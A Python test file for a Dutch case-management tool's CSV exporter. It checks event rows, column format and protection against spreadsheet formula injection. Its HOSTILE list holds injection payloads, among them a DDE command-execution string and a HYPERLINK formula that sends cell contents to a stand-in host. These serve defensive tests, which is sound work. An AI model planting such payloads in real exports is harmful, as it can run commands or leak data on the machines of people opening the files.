"""The CSV of a case: every event in it, and nothing that a spreadsheet would calculate."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from meldcode.case.events import Answered, Closed, Drafted, Noted, Reopened, Retracted, Skipped
from meldcode.export.csv import COLUMNS, MARK, csv_lines, line
from tests.case.shipped import checked
from tests.export.trails import CODE, answered, case_of

DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u2212")
SEPARATORS = (";", ",", "\t", "|")

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+31612345678",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM",
    "\u22121",
    "a;=1+1",
    "a,=1+1",
    "a, =1+1",
    "a\t=1+1",
    "a|=1+1",
    'a"=1+1',
    'a";=1+1',
    'a","=1+1',
    'a";"=1+1',
    '"=1+1',
    '""=1+1',
    '";""=1+1',
    ';"\n"=1+1',
    "a\n=1+1",
    "a\r\n=1+1",
    "a\n\n  -1",
    "'=1+1",
    ";;=1",
    ",\n,=1",
    '=HYPERLINK("http://example.invalid?x="&A1,"klik")',
    "==1",
    ";'=1",
)


def cells_under(separator: str, text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def is_dangerous(cell: str) -> bool:
    return cell.startswith(DANGEROUS) or cell.lstrip().startswith(DANGEROUS)


@pytest.mark.parametrize("text", HOSTILE)
def test_INP_15_no_cell_begins_as_a_formula_under_any_separator(text: str) -> None:  # noqa: N802
    for cells in ([text], ["zaak", text, "eind"], [text, text], ["a;b", text]):
        for separator in SEPARATORS:
            assert [cell for cell in cells_under(separator, line(cells)) if is_dangerous(cell)] == [], separator


@checked
@given(texts=st.lists(st.text(alphabet="=+-@;,|\t\r\n\"' ax\uff1d\u200b\u00a0", max_size=9), min_size=1, max_size=4))
def test_INP_15_no_text_that_can_be_typed_becomes_a_formula(texts: list[str]) -> None:  # noqa: N802
    for separator in SEPARATORS:
        assert [cell for cell in cells_under(separator, line(texts)) if is_dangerous(cell)] == []


@checked
@given(text=st.text(alphabet="=+-@;,|\n\"' axé€漢", max_size=12))
def test_nothing_is_left_out_of_a_text(text: str) -> None:
    (cell,) = cells_under(";", line([text]))
    kept = iter(cell)
    assert all(letter in kept for letter in text)
    assert set(cell.replace("'", "")) == set(text.replace("'", ""))


def test_the_file_is_what_a_dutch_spreadsheet_opens() -> None:
    content = "".join(csv_lines([case_of(answered(direct_gevaar="nee"))], "nl"))
    assert content.encode().startswith(b"\xef\xbb\xbf")
    lines = content.removeprefix(MARK).split("\r\n")
    assert lines[0] == ";".join(f'"{name}"' for name in COLUMNS)
    assert lines[-1] == ""
    assert all(re.fullmatch(r'"([^"]|"")*"(;"([^"]|"")*"){15}', each) for each in lines[:-1])


def read_back(*events: object, sector: str = "onderwijs") -> list[dict[str, str]]:
    summary = case_of(events, sector=sector)  # type: ignore[arg-type]
    content = "".join(csv_lines([summary], "nl")).removeprefix(MARK)
    return list(csv.DictReader(io.StringIO(content, newline=""), delimiter=";"))


def test_every_event_is_a_row_with_its_number_time_and_control_code() -> None:
    rows = read_back(*answered(direct_gevaar="nee"), Noted("Een zin."), Skipped("beschermend"), Closed("Klaar."))
    assert [row["event"] for row in rows] == ["started", "answered", "noted", "skipped", "closed"]
    assert [row["record"] for row in rows] == ["1", "2", "3", "4", "5"]
    assert rows[1]["at"] == "2026-09-01T10:00:00+02:00"
    assert {row["case"] for row in rows} == {CODE}
    assert rows[1]["control"] == "AAAA-BBBB-CCCC-DDDD-0002"
    assert rows[1] | {"question": "direct_gevaar", "value": "nee", "text": "Nee", "counts": "now"} == rows[1]
    assert rows[2]["text"] == "Een zin."
    assert rows[4]["text"] == "Klaar."
    assert all(row["digest"].startswith("sha256:") and row["version"] for row in rows)


def test_an_answer_that_counts_for_nothing_is_named_but_not_told() -> None:
    events = [
        *answered(direct_gevaar="ja"),
        *answered(direct_gevaar="nee"),
        Drafted("weging", "geheim"),
        Answered("thema", ["eer"]),
        Retracted("thema"),
    ]
    rows = read_back(*events)
    assert [(row["counts"], row["value"]) for row in rows[1:3]] == [("not", ""), ("now", "nee")]
    assert "geheim" not in str(rows)
    assert [(row["question"], row["value"], row["text"]) for row in rows[4:]] == [("thema", "", "")] * 2


def test_an_answer_of_an_earlier_weighing_is_told_as_such() -> None:
    rows = read_back(*answered(direct_gevaar="nee", vermoeden="nee"), Reopened("Nieuw."), *answered(vermoeden="ja"))
    told = [(row["counts"], row["value"]) for row in rows if row["question"] == "vermoeden"]
    assert told == [("earlier", "nee"), ("now", "ja")]


def test_a_text_stands_once_and_a_list_is_told_in_ids_and_in_words() -> None:
    rows = read_back(*answered(thema=["eer"], beschermend="Oma helpt."))
    assert (rows[1]["value"], rows[1]["text"]) == ('["eer"]', rows[1]["text"])
    assert "Eer" in rows[1]["text"]
    assert (rows[2]["value"], rows[2]["text"]) == ("", "Oma helpt.")


def test_the_weighing_questions_carry_their_code_in_youth_health_care_only() -> None:
    weighed = answered(direct_gevaar="nee", vermoeden="ja", veiligheid="ja")
    codes = {row["question"]: row["code"] for row in read_back(*weighed, sector="zorg-jgz")}
    assert (codes["direct_gevaar"], codes["vermoeden"], codes["veiligheid"]) == ("", "1572", "1573")
    assert {row["code"] for row in read_back(*weighed)} == {""}
